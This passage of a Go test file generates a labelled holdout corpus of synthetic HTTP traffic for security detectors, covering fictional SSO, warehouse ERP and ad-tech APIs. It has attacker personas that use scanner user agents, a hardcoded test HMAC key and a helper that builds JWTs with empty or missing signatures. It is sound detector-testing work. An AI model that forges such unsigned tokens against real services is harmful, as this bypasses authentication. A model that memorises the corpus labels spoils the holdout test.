// Holdout corpus 8: an independent labelled corpus for the eight stateless
// technique detectors, written from docs/detect.md, docs/traffic-format.md and
// exchange.go only (no detector source, no other corpus or generator was read).
//
// Three APIs:
//   - sso.keystone-id.test: an identity provider / SSO admin API (users, groups,
//     SCIM provisioning, SAML and OIDC metadata, audit logs, signing keys);
//   - erp.palletworks.test: a warehouse ERP with a SOAP/XML interface and CSV,
//     EDI and flat-file imports and exports;
//   - api.adpulse.test and px.adpulse.test: an ad-tech / marketing analytics API
//     (campaigns, huge reporting JSON, tracking pixels, base64 blobs, partner
//     integrations, GraphQL).
//
// Its emphasis is on responses: what APIs leak (secrets, cards, hashes, keys,
// stack traces, SQL errors, CORS) in JSON, XML/SOAP, CSV, YAML, HTML, plain
// text and SAML, beside benign responses that look like leaks but are not.
// Every label lists each of the eight detectors that should report the
// exchange; an empty list means benign.
//
// Regenerate with:
//
//	go test ./detect/ -run TestHoldout8Generate -update-holdout8
package detect_test

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand"
	"net/url"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"
)

var updateHoldout8 = flag.Bool("update-holdout8", false, "rewrite detect/testdata/holdout8 from its generator")

const (
	h8IdP = "sso.keystone-id.test"
	h8ERP = "erp.palletworks.test"
	h8Ad  = "api.adpulse.test"
	h8Px  = "px.adpulse.test"

	h8SQL  = "detect.injection.sqli"
	h8XSS  = "detect.injection.xss"
	h8OTH  = "detect.injection.other"
	h8SSRF = "detect.ssrf"
	h8JWT  = "detect.auth.jwt"
	h8VERB = "detect.misconfig.verbose"
	h8SENS = "detect.exposure.sensitive"
	h8LIM  = "detect.resource.limits"

	h8Key = "h8-corpus-hmac-key-0b6d2f9a41c87e35"
	h8Kid = "ks-2026-11-a"
)

var h8Base = time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC)

type h8Actor struct {
	sub, role, ua, host string
	ips                 []string
	token               string
}

type h8Ex struct {
	actor    *h8Actor
	method   string
	url      string
	reqH     map[string][]string
	body     string
	bodyEnc  string
	bodySize int64
	status   int
	respH    map[string][]string
	respBody string
	respEnc  string
	respSize int64
	labels   []string
	noAuth   bool
	token    string // when set, sent instead of the actor's token
	ip, ua   string // an anonymous client's network and device
}

type h8Gen struct {
	r        *rand.Rand
	benign   []*h8Ex
	attacks  []*h8Ex
	users    map[string][]*h8Actor
	attacker map[string][]*h8Actor
	seq      int
}

// ---------- small helpers ----------

func (g *h8Gen) pick(xs ...string) string { return xs[g.r.Intn(len(xs))] }

func (g *h8Gen) chars(n int, alphabet string) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[g.r.Intn(len(alphabet))]
	}
	return string(b)
}

const (
	h8Alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	h8Upper = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	h8Hex   = "0123456789abcdef"
	h8B64   = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
)

func (g *h8Gen) hex(n int) string { return g.chars(n, h8Hex) }
func (g *h8Gen) uuid() string {
	h := g.hex(32)
	return h[0:8] + "-" + h[8:12] + "-4" + h[13:16] + "-a" + h[17:20] + "-" + h[20:32]
}

// card completes prefix to a Luhn-valid number of length n.
func (g *h8Gen) card(prefix string, n int) string {
	s := prefix
	for len(s) < n-1 {
		s += string(rune('0' + g.r.Intn(10)))
	}
	sum := 0
	for i := len(s) - 1; i >= 0; i-- {
		d := int(s[i] - '0')
		if (len(s)-1-i)%2 == 0 {
			d *= 2
			if d > 9 {
				d -= 9
			}
		}
		sum += d
	}
	return s + string(rune('0'+(10-sum%10)%10))
}

func (g *h8Gen) nonLuhn(prefix string, n int) string {
	c := g.card(prefix, n)
	return c[:n-1] + string(rune('0'+(int(c[n-1]-'0')+1+g.r.Intn(8))%10))
}

func h8Group4(c string) string {
	var parts []string
	for i := 0; i < len(c); i += 4 {
		j := min(i+4, len(c))
		parts = append(parts, c[i:j])
	}
	return strings.Join(parts, " ")
}

func h8JSON(v any) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

func h8XMLEsc(s string) string {
	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", "'", "&apos;", `"`, "&quot;")
	return r.Replace(s)
}

func h8B64url(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

// h8JWTTok builds a JWT from header and claims; sig: "hs" signs with the corpus
// key, "" leaves the signature empty, "drop" leaves out the third segment, any
// other value is used as the signature text.
func h8JWTTok(header, claims map[string]any, sig string) string {
	hj, _ := json.Marshal(header)
	cj, _ := json.Marshal(claims)
	si := h8B64url(hj) + "." + h8B64url(cj)
	switch sig {
	case "hs":
		m := hmac.New(sha256.New, []byte(h8Key))
		m.Write([]byte(si))
		return si + "." + h8B64url(m.Sum(nil))
	case "":
		return si + "."
	case "drop":
		return si
	}
	return si + "." + sig
}

func h8Claims(sub, role, aud string) map[string]any {
	return map[string]any{
		"iss":   "https://sso.keystone-id.test/oauth2/default",
		"sub":   sub,
		"aud":   aud,
		"iat":   h8Base.Add(-2 * time.Hour).Unix(),
		"nbf":   h8Base.Add(-2 * time.Hour).Unix(),
		"exp":   h8Base.Add(72 * time.Hour).Unix(),
		"role":  role,
		"scope": "openid profile " + role,
		"jti":   fmt.Sprintf("jti-%s", sub),
	}
}

func h8Valid(sub, role, aud string) string {
	return h8JWTTok(map[string]any{"alg": "HS256", "typ": "JWT", "kid": h8Kid}, h8Claims(sub, role, aud), "hs")
}

func h8JSONH() map[string][]string {
	return map[string][]string{
		"Content-Type":              {"application/json; charset=utf-8"},
		"Cache-Control":             {"no-store"},
		"X-Content-Type-Options":    {"nosniff"},
		"Strict-Transport-Security": {"max-age=31536000; includeSubDomains"},
	}
}

func h8H(ct string) map[string][]string {
	h := h8JSONH()
	h["Content-Type"] = []string{ct}
	return h
}

// ---------- exchange builders ----------

func (g *h8Gen) ex(a *h8Actor, method, path string) *h8Ex {
	host := h8IdP
	if a != nil {
		host = a.host
	}
	u := path
	if !strings.HasPrefix(path, "https://") && !strings.HasPrefix(path, "http://") {
		u = "https://" + host + path
	}
	e := &h8Ex{actor: a, method: method, url: u, reqH: map[string][]string{}, status: 200, respH: h8JSONH()}
	if a == nil {
		e.ip = fmt.Sprintf("%d.%d.%d.%d", g.pick2(73, 81, 86, 92, 109, 24, 67, 176), g.r.Intn(250)+1, g.r.Intn(250), g.r.Intn(250)+1)
		e.ua = h8Browsers[g.r.Intn(len(h8Browsers))]
	}
	return e
}

func (e *h8Ex) jbody(v any) *h8Ex {
	e.body = h8JSON(v)
	if _, ok := e.reqH["Content-Type"]; !ok {
		e.reqH["Content-Type"] = []string{"application/json"}
	}
	return e
}

func (e *h8Ex) form(v url.Values) *h8Ex {
	e.body = v.Encode()
	e.reqH["Content-Type"] = []string{"application/x-www-form-urlencoded"}
	return e
}

func (e *h8Ex) hdr(k, v string) *h8Ex { e.reqH[k] = append(e.reqH[k], v); return e }

func (e *h8Ex) resp(status int, ct, body string) *h8Ex {
	e.status = status
	e.respH = h8H(ct)
	e.respBody = body
	return e
}

func (e *h8Ex) rjson(status int, v any) *h8Ex {
	return e.resp(status, "application/json; charset=utf-8", h8JSON(v))
}

func (e *h8Ex) rhdr(k, v string) *h8Ex { e.respH[k] = append(e.respH[k], v); return e }

func (e *h8Ex) also(l ...string) *h8Ex { e.labels = append(e.labels, l...); return e }

func (g *h8Gen) addB(e *h8Ex) *h8Ex { g.benign = append(g.benign, e); return e }
func (g *h8Gen) addA(e *h8Ex, l ...string) *h8Ex {
	e.labels = append(e.labels, l...)
	g.attacks = append(g.attacks, e)
	return e
}

func h8Multipart(boundary string, parts [][4]string) string {
	// parts: name, filename, content-type, content
	var b strings.Builder
	for _, p := range parts {
		b.WriteString("--" + boundary + "\r\n")
		if p[1] != "" {
			fmt.Fprintf(&b, "Content-Disposition: form-data; name=%q; filename=%q\r\n", p[0], p[1])
		} else {
			fmt.Fprintf(&b, "Content-Disposition: form-data; name=%q\r\n", p[0])
		}
		if p[2] != "" {
			b.WriteString("Content-Type: " + p[2] + "\r\n")
		}
		b.WriteString("\r\n" + p[3] + "\r\n")
	}
	b.WriteString("--" + boundary + "--\r\n")
	return b.String()
}

func (e *h8Ex) multipart(parts [][4]string) *h8Ex {
	bd := "----h8form" + fmt.Sprintf("%08x", len(parts)*7919+len(e.url))
	e.body = h8Multipart(bd, parts)
	e.reqH["Content-Type"] = []string{"multipart/form-data; boundary=" + bd}
	return e
}

func h8Soap(ns, op, inner string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:inv="` + ns + `"><soapenv:Header><inv:RequestContext><inv:Warehouse>DC-EAST-2</inv:Warehouse></inv:RequestContext></soapenv:Header><soapenv:Body><inv:` + op + `>` + inner + `</inv:` + op + `></soapenv:Body></soapenv:Envelope>`
}

const h8InvNS = "urn:palletworks:inventory:v3"

func (e *h8Ex) soap(op, inner string) *h8Ex {
	e.body = h8Soap(h8InvNS, op, inner)
	e.reqH["Content-Type"] = []string{"text/xml; charset=utf-8"}
	e.reqH["Soapaction"] = []string{`"urn:palletworks:inventory:v3#` + op + `"`}
	return e
}

func (e *h8Ex) rsoap(status int, op, inner string) *h8Ex {
	return e.resp(status, "text/xml; charset=utf-8", `<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><ns2:`+op+` xmlns:ns2="`+h8InvNS+`">`+inner+`</ns2:`+op+`></soap:Body></soap:Envelope>`)
}

func h8SoapFault(code, msg, detail string) string {
	d := ""
	if detail != "" {
		d = "<detail>" + detail + "</detail>"
	}
	return `<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><soap:Fault><faultcode>` + code + `</faultcode><faultstring>` + msg + `</faultstring>` + d + `</soap:Fault></soap:Body></soap:Envelope>`
}

// ---------- actors ----------

func (g *h8Gen) actors() {
	g.users = map[string][]*h8Actor{}
	g.attacker = map[string][]*h8Actor{}
	type spec struct {
		host, sub, role, ua string
		ips                 []string
	}
	specs := []spec{
		{h8IdP, "u-7f31a2", "admin", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15", []string{"198.51.100.23", "203.0.113.140"}},
		{h8IdP, "u-0c99e4", "admin", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", []string{"198.51.100.61"}},
		{h8IdP, "u-51d0b7", "helpdesk", "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", []string{"192.0.2.44"}},
		{h8IdP, "u-a3e812", "helpdesk", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0", []string{"192.0.2.90", "198.51.100.200"}},
		{h8IdP, "svc-scim-workday", "provisioner", "Workday-SCIM-Connector/2.14 (+https://workday.example/scim)", []string{"34.201.77.12"}},
		{h8IdP, "svc-siem-export", "auditor", "Go-http-client/2.0", []string{"52.14.120.9"}},
		{h8IdP, "u-6b2c40", "auditor", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", []string{"203.0.113.77"}},
		{h8ERP, "wh-clerk-014", "clerk", "PalletWorksHandheld/5.3.1 (Android 13; Zebra TC58)", []string{"198.51.100.130"}},
		{h8ERP, "wh-clerk-022", "clerk", "PalletWorksHandheld/5.3.1 (Android 13; Zebra TC58)", []string{"198.51.100.131"}},
		{h8ERP, "wh-lead-003", "supervisor", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", []string{"198.51.100.140"}},
		{h8ERP, "buyer-ann", "purchasing", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", []string{"203.0.113.18", "198.51.100.141"}},
		{h8ERP, "svc-tms-bridge", "integration", "Apache-CXF/3.5.9", []string{"44.208.19.5"}},
		{h8ERP, "svc-edi-gateway", "integration", "SAP NetWeaver Application Server 7.50 / AS Java 7.50", []string{"3.120.44.201"}},
		{h8Ad, "mk-lena", "marketer", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", []string{"192.0.2.150"}},
		{h8Ad, "mk-omar", "marketer", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", []string{"192.0.2.151", "203.0.113.9"}},
		{h8Ad, "mk-priya", "analyst", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", []string{"198.51.100.90"}},
		{h8Ad, "mk-jules", "analyst", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15", []string{"198.51.100.91"}},
		{h8Ad, "ag-northwind", "agency", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 OPR/114.0.0.0", []string{"203.0.113.201"}},
		{h8Ad, "pt-dsp-bridge", "partner", "python-requests/2.32.3", []string{"35.180.4.77"}},
		{h8Ad, "pt-crm-sync", "partner", "node-fetch/3.3.2", []string{"18.196.50.3"}},
		{h8Ad, "svc-report-bot", "reporting", "AdPulseReportBot/1.8 (+https://adpulse.test/bot)", []string{"52.0.14.88"}},
	}
	for _, s := range specs {
		a := &h8Actor{sub: s.sub, role: s.role, ua: s.ua, host: s.host, ips: s.ips}
		a.token = h8Valid(s.sub, s.role, "https://"+s.host)
		if s.host == h8ERP {
			a.token = h8JWTTok(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-03-key_1"}, h8Claims(s.sub, s.role, "https://"+s.host), "hs")
		}
		g.users[s.host] = append(g.users[s.host], a)
	}
	atk := []spec{
		{"", "u-tmp-8812", "helpdesk", "sqlmap/1.8.11#stable (https://sqlmap.org)", []string{"185.220.101.34"}},
		{"", "u-tmp-3301", "marketer", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", []string{"45.95.147.12"}},
		{"", "u-tmp-4410", "clerk", "curl/8.7.1", []string{"103.251.167.20"}},
		{"", "u-tmp-9027", "partner", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", []string{"146.70.113.4"}},
		{"", "u-tmp-1175", "analyst", "python-requests/2.31.0", []string{"91.219.236.18"}},
		{"", "u-tmp-6620", "agency", "Fuzz Faster U Fool v2.1.0-dev", []string{"194.26.192.77"}},
	}
	for _, host := range []string{h8IdP, h8ERP, h8Ad} {
		for _, s := range atk {
			a := &h8Actor{sub: s.sub, role: s.role, ua: s.ua, host: host, ips: s.ips}
			a.token = h8Valid(s.sub, s.role, "https://"+host)
			g.attacker[host] = append(g.attacker[host], a)
		}
	}
}

func (g *h8Gen) user(host string) *h8Actor {
	us := g.users[host]
	return us[g.r.Intn(len(us))]
}

func (g *h8Gen) userRole(host string, roles ...string) *h8Actor {
	var c []*h8Actor
	for _, u := range g.users[host] {
		for _, r := range roles {
			if u.role == r {
				c = append(c, u)
			}
		}
	}
	return c[g.r.Intn(len(c))]
}

func (g *h8Gen) atk(host string) *h8Actor {
	as := g.attacker[host]
	return as[g.r.Intn(len(as))]
}

// ---------- output ----------

type h8Msg struct {
	Method   string              `json:"method,omitempty"`
	URL      string              `json:"url,omitempty"`
	Status   int                 `json:"status,omitempty"`
	Proto    string              `json:"proto"`
	Headers  map[string][]string `json:"headers"`
	Body     string              `json:"body"`
	BodyEnc  string              `json:"body_encoding,omitempty"`
	BodySize int64               `json:"body_size"`
	Trunc    bool                `json:"truncated,omitempty"`
}

type h8Line struct {
	ID     string `json:"id"`
	Time   string `json:"time"`
	Client struct {
		Addr string `json:"addr"`
	} `json:"client"`
	Request    h8Msg   `json:"request"`
	Response   h8Msg   `json:"response"`
	DurationMS float64 `json:"duration_ms"`
}

type h8Label struct {
	ID        string   `json:"id"`
	Detectors []string `json:"detectors"`
}

func (g *h8Gen) render(order []*h8Ex) (traffic, labels []byte) {
	var tb, lb bytes.Buffer
	t := h8Base
	ipOf := map[*h8Actor]int{}
	for i, e := range order {
		t = t.Add(time.Duration(400+g.r.Intn(3200)) * time.Millisecond)
		var ln h8Line
		ln.ID = fmt.Sprintf("p%05d", i+1)
		ln.Time = t.Format("2006-01-02T15:04:05.000Z")
		ip, ua := e.ip, e.ua
		if e.actor != nil {
			// a user's second network is used for a stretch in the middle
			k := 0
			if len(e.actor.ips) > 1 && i > len(order)/2 && i < len(order)*3/4 {
				k = 1
			}
			ipOf[e.actor] = k
			ip = e.actor.ips[k]
			ua = e.actor.ua
		}
		ln.Client.Addr = fmt.Sprintf("%s:%d", ip, 20000+g.r.Intn(40000))
		h := map[string][]string{}
		for k, v := range e.reqH {
			h[k] = v
		}
		if _, ok := h["User-Agent"]; !ok {
			h["User-Agent"] = []string{ua}
		}
		if _, ok := h["Accept"]; !ok {
			h["Accept"] = []string{"application/json, text/plain, */*"}
		}
		if !e.noAuth && e.actor != nil {
			if _, ok := h["Authorization"]; !ok {
				tok := e.actor.token
				if e.token != "" {
					tok = e.token
				}
				h["Authorization"] = []string{"Bearer " + tok}
			}
		}
		ln.Request = h8Msg{Method: e.method, URL: e.url, Proto: "HTTP/1.1", Headers: h, Body: e.body, BodyEnc: e.bodyEnc, BodySize: int64(len(e.body))}
		if e.bodyEnc == "base64" {
			raw, _ := base64.StdEncoding.DecodeString(e.body)
			ln.Request.BodySize = int64(len(raw))
		}
		if e.bodySize > ln.Request.BodySize {
			ln.Request.BodySize = e.bodySize
			ln.Request.Trunc = true
		}
		rh := map[string][]string{}
		for k, v := range e.respH {
			rh[k] = v
		}
		rh["Date"] = []string{t.Format(time.RFC1123)}
		rh["X-Request-Id"] = []string{fmt.Sprintf("req-%s", g.hex(16))}
		ln.Response = h8Msg{Status: e.status, Proto: "HTTP/1.1", Headers: rh, Body: e.respBody, BodyEnc: e.respEnc, BodySize: int64(len(e.respBody))}
		if e.respEnc == "base64" {
			raw, _ := base64.StdEncoding.DecodeString(e.respBody)
			ln.Response.BodySize = int64(len(raw))
		}
		if e.respSize > ln.Response.BodySize {
			ln.Response.BodySize = e.respSize
			ln.Response.Trunc = true
		}
		ln.DurationMS = float64(5+g.r.Intn(900)) + float64(g.r.Intn(10))/10
		tb.WriteString(h8JSON(ln) + "\n")
		ls := append([]string{}, e.labels...)
		sort.Strings(ls)
		ls = h8Uniq(ls)
		if ls == nil {
			ls = []string{}
		}
		lb.WriteString(h8JSON(h8Label{ID: ln.ID, Detectors: ls}) + "\n")
	}
	_ = ipOf
	return tb.Bytes(), lb.Bytes()
}

func h8Uniq(xs []string) []string {
	var out []string
	for i, x := range xs {
		if i == 0 || xs[i-1] != x {
			out = append(out, x)
		}
	}
	return out
}

func TestHoldout8Generate(t *testing.T) {
	g := &h8Gen{r: rand.New(rand.NewSource(20261120))}
	g.actors()
	g.benignAll()
	g.attackAll()
	g.r.Shuffle(len(g.attacks), func(i, j int) { g.attacks[i], g.attacks[j] = g.attacks[j], g.attacks[i] })
	// interleave: attacks spread through the benign stream
	var order []*h8Ex
	bi, ai := 0, 0
	nb, na := len(g.benign), len(g.attacks)
	for bi < nb || ai < na {
		if ai < na && (bi >= nb || g.r.Intn(nb+na) < na) {
			order = append(order, g.attacks[ai])
			ai++
		} else {
			order = append(order, g.benign[bi])
			bi++
		}
	}
	traffic, labels := g.render(order)
	counts := map[string]int{}
	benign := 0
	for _, e := range order {
		if len(e.labels) == 0 {
			benign++
		}
		for _, l := range h8Uniq(h8Sorted(e.labels)) {
			counts[l]++
		}
	}
	t.Logf("total %d benign %d attacks %d", len(order), benign, len(order)-benign)
	for _, d := range []string{h8SQL, h8XSS, h8OTH, h8SSRF, h8JWT, h8VERB, h8SENS, h8LIM} {
		t.Logf("%-28s %d", d, counts[d])
	}
	writeOrCheckCorpus(t, filepath.Join("testdata", "holdout8"), *updateHoldout8, "go test ./detect/ -run TestHoldout8Generate -update-holdout8", traffic, labels)
}

func h8Sorted(xs []string) []string {
	c := append([]string{}, xs...)
	sort.Strings(c)
	return c
}

var _ = hex.EncodeToString

// ---------- benign traffic ----------

var h8Names = []string{"Ana Souza", "Bilal Haddad", "Chen Wei", "Dagny O'Reilly", "Eitan Levi", "Fatou Diop", "Grete Nilsen", "Hiroshi Tanaka", "Ines Moreau", "Jamal O'Brien", "Katarzyna Nowak", "Liam Byrne", "Mei Lin", "Nadia Rahman", "Oskar Lind", "Paula Jiménez"}
var h8Groups = []string{"Finance", "Warehouse Ops", "Sales EMEA", "Engineering", "Support Tier 2", "Contractors", "Legal & Compliance", "Marketing"}
var h8Skus = []string{"PLT-EUR-1200", "PLT-US-4840", "BOX-C5-0040", "STR-WRAP-23", "TAPE-48-BRN", "LBL-4X6-TT", "PAL-JACK-2T", "BIN-A-1203"}

func (g *h8Gen) email(name string) string {
	n := strings.ToLower(strings.NewReplacer(" ", ".", "'", "", "é", "e").Replace(name))
	return n + "@" + g.pick("northwind.example", "contoso.example", "fabrikam.example")
}

func (g *h8Gen) scimUser() map[string]any {
	name := h8Names[g.r.Intn(len(h8Names))]
	parts := strings.SplitN(name, " ", 2)
	id := g.uuid()
	return map[string]any{
		"schemas":  []string{"urn:ietf:params:scim:schemas:core:2.0:User", "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"},
		"id":       id,
		"userName": g.email(name),
		"name":     map[string]any{"givenName": parts[0], "familyName": parts[1], "formatted": name},
		"emails":   []any{map[string]any{"value": g.email(name), "type": "work", "primary": true}},
		"active":   g.r.Intn(10) > 0,
		"groups":   []any{map[string]any{"value": g.uuid(), "display": h8Groups[g.r.Intn(len(h8Groups))]}},
		"urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": map[string]any{"employeeNumber": fmt.Sprint(10000 + g.r.Intn(80000)), "department": h8Groups[g.r.Intn(len(h8Groups))]},
		"meta": map[string]any{"resourceType": "User", "created": "2025-03-14T09:12:44Z", "lastModified": "2026-11-18T16:03:10Z", "version": `W/"` + g.hex(16) + `"`, "location": "https://sso.keystone-id.test/scim/v2/Users/" + id},
	}
}

func (g *h8Gen) certB64(n int) string {
	return "MIID" + g.chars(n, h8B64)
}

func (g *h8Gen) benignIdP() {
	u := g.user(h8IdP)
	switch g.r.Intn(24) {
	case 0, 1:
		var rs []any
		for i := 0; i < 3+g.r.Intn(4); i++ {
			rs = append(rs, g.scimUser())
		}
		a := g.userRole(h8IdP, "provisioner", "admin")
		g.addB(g.ex(a, "GET", fmt.Sprintf("/scim/v2/Users?startIndex=%d&count=%s&filter=%s", 1+100*g.r.Intn(8), g.pick("100", "200", "50"), url.QueryEscape(`meta.lastModified gt "2026-11-19T00:00:00Z"`))).
			resp(200, "application/scim+json", h8JSON(map[string]any{"schemas": []string{"urn:ietf:params:scim:api:messages:2.0:ListResponse"}, "totalResults": 1200 + g.r.Intn(900), "itemsPerPage": len(rs), "startIndex": 1, "Resources": rs})))
	case 2:
		a := g.userRole(h8IdP, "provisioner")
		su := g.scimUser()
		delete(su, "id")
		delete(su, "meta")
		su["password"] = nil
		delete(su, "password")
		e := g.ex(a, "POST", "/scim/v2/Users").jbody(su)
		e.reqH["Content-Type"] = []string{"application/scim+json"}
		su["id"] = g.uuid()
		g.addB(e.resp(201, "application/scim+json", h8JSON(su)))
	case 3:
		a := g.userRole(h8IdP, "provisioner")
		id := g.uuid()
		e := g.ex(a, "PATCH", "/scim/v2/Users/"+id).jbody(map[string]any{"schemas": []string{"urn:ietf:params:scim:api:messages:2.0:PatchOp"}, "Operations": []any{map[string]any{"op": "replace", "path": "active", "value": false}, map[string]any{"op": "replace", "path": `emails[type eq "work"].value`, "value": g.email(h8Names[g.r.Intn(16)])}}})
		e.reqH["Content-Type"] = []string{"application/scim+json"}
		g.addB(e.resp(204, "application/scim+json", ""))
	case 4:
		var gs []any
		for i := 0; i < 4; i++ {
			gs = append(gs, map[string]any{"id": g.uuid(), "displayName": h8Groups[g.r.Intn(len(h8Groups))], "members": []any{map[string]any{"value": g.uuid(), "$ref": "https://sso.keystone-id.test/scim/v2/Users/" + g.uuid()}}})
		}
		g.addB(g.ex(u, "GET", "/scim/v2/Groups?count=50&excludedAttributes=members").resp(200, "application/scim+json", h8JSON(map[string]any{"schemas": []string{"urn:ietf:params:scim:api:messages:2.0:ListResponse"}, "totalResults": 41, "Resources": gs})))
	case 5:
		q := g.pick("obrien", "O'Brien", "select", "union", "drop-in", "admin", "contractor 2026", "null", "Delete Me (test)")
		var us []any
		for i := 0; i < 5; i++ {
			n := h8Names[g.r.Intn(16)]
			us = append(us, map[string]any{"id": "usr_" + g.chars(20, h8Alnum), "name": n, "email": g.email(n), "status": g.pick("ACTIVE", "SUSPENDED", "PROVISIONED"), "mfa": map[string]any{"enrolled": true, "factors": []string{"webauthn", "totp"}}, "last_login": "2026-11-19T18:22:01Z"})
		}
		g.addB(g.ex(u, "GET", "/admin/v1/users?q="+url.QueryEscape(q)+"&limit="+g.pick("50", "200", "500", "1000")+"&after=usr_"+g.chars(20, h8Alnum)).rjson(200, map[string]any{"data": us, "next": "usr_" + g.chars(20, h8Alnum)}))
	case 6, 7:
		var evs []any
		for i := 0; i < 6; i++ {
			act := g.pick("user.password.reset", "user.mfa.factor.enroll", "app.oauth2.client_secret.rotate", "user.session.start", "policy.update", "signing_key.rotate", "user.lifecycle.deactivate")
			ev := map[string]any{"uuid": g.uuid(), "published": "2026-11-19T21:0" + fmt.Sprint(i) + ":11.402Z", "eventType": act, "actor": map[string]any{"id": "usr_" + g.chars(20, h8Alnum), "type": "User"}, "client": map[string]any{"ipAddress": g.pick("198.51.100.23", "192.0.2.44", "203.0.113.77"), "userAgent": "Chrome 131 on macOS"}, "outcome": map[string]any{"result": g.pick("SUCCESS", "FAILURE", "SUCCESS")}}
			switch act {
			case "user.password.reset":
				ev["debugContext"] = map[string]any{"changedFields": []string{"password", "passwordChanged"}, "reason": "Password reset by admin; previous password hash discarded"}
			case "app.oauth2.client_secret.rotate":
				ev["target"] = []any{map[string]any{"type": "AppInstance", "displayName": "Tableau Cloud", "detail": "client_secret rotated; old secret valid for 24h"}}
			case "signing_key.rotate":
				ev["target"] = []any{map[string]any{"type": "Key", "kid": "ks-2026-11-a", "sha256_thumbprint": g.hex(64)}}
			case "user.session.start":
				ev["outcome"] = map[string]any{"result": "FAILURE", "reason": "INVALID_CREDENTIALS: password did not match"}
			}
			evs = append(evs, ev)
		}
		a := g.userRole(h8IdP, "auditor", "admin")
		g.addB(g.ex(a, "GET", "/admin/v1/audit-logs?since=2026-11-19T00%3A00%3A00Z&limit="+g.pick("100", "500", "1000")+"&filter="+url.QueryEscape(`eventType sw "user." and outcome.result eq "FAILURE"`)).rjson(200, evs))
	case 8:
		g.addB(g.ex(nil, "GET", "https://sso.keystone-id.test/.well-known/openid-configuration").setNoAuth().rjson(200, map[string]any{
			"issuer": "https://sso.keystone-id.test/oauth2/default", "authorization_endpoint": "https://sso.keystone-id.test/oauth2/default/v1/authorize", "token_endpoint": "https://sso.keystone-id.test/oauth2/default/v1/token", "jwks_uri": "https://sso.keystone-id.test/oauth2/default/v1/keys", "userinfo_endpoint": "https://sso.keystone-id.test/oauth2/default/v1/userinfo",
			"response_types_supported": []string{"code", "id_token", "code id_token"}, "id_token_signing_alg_values_supported": []string{"RS256", "ES256"}, "token_endpoint_auth_methods_supported": []string{"client_secret_basic", "client_secret_post", "private_key_jwt"}, "claims_supported": []string{"sub", "email", "name", "groups"}}).rhdr("Access-Control-Allow-Origin", "*"))
	case 9:
		g.addB(g.ex(nil, "GET", "https://sso.keystone-id.test/oauth2/default/v1/keys").setNoAuth().rjson(200, map[string]any{"keys": []any{
			map[string]any{"kty": "RSA", "alg": "RS256", "use": "sig", "kid": "ks-2026-11-a", "e": "AQAB", "n": g.chars(342, h8Alnum+"-_")},
			map[string]any{"kty": "EC", "alg": "ES256", "use": "sig", "kid": "ks-2026-08-ec", "crv": "P-256", "x": g.chars(43, h8Alnum+"-_"), "y": g.chars(43, h8Alnum+"-_")},
		}}).rhdr("Access-Control-Allow-Origin", "*"))
	case 10:
		cert := g.certB64(900)
		g.addB(g.ex(nil, "GET", "https://sso.keystone-id.test/app/"+g.pick("salesforce", "workday", "zendesk")+"/sso/saml/metadata").setNoAuth().resp(200, "application/samlmetadata+xml",
